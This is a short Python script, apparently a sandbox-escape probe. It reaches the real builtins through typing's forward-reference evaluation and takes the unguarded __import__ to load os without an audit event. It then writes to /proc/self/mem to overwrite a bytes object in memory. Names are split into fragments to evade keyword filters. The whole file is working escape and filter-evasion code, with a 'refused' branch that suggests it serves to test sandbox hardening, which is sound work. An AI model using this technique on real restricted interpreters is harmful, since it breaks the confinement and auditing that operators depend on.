# fs: /proc/self/mem opened for writing through dir_fd (cwd /tmp): overwrite a bytes object's contents
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
o = imp("o" + "s")  # already loaded: no audit event

victim = b"AAAAAAAAAAAAAAAA" + bytes(4)
try:
    root = o.open("/", o.O_RDONLY)
    o.chdir("/tmp")
    fd = o.open("proc/self/mem", o.O_RDWR, dir_fd=root)
    o.pwrite(fd, b"PWN" + b"ED", id(victim) + 32)
    if victim.startswith(b"PWN" + b"ED"):
        print(M, "wrote own memory:", victim)
except Exception as e:
    print("refused:", type(e).__name__, e)
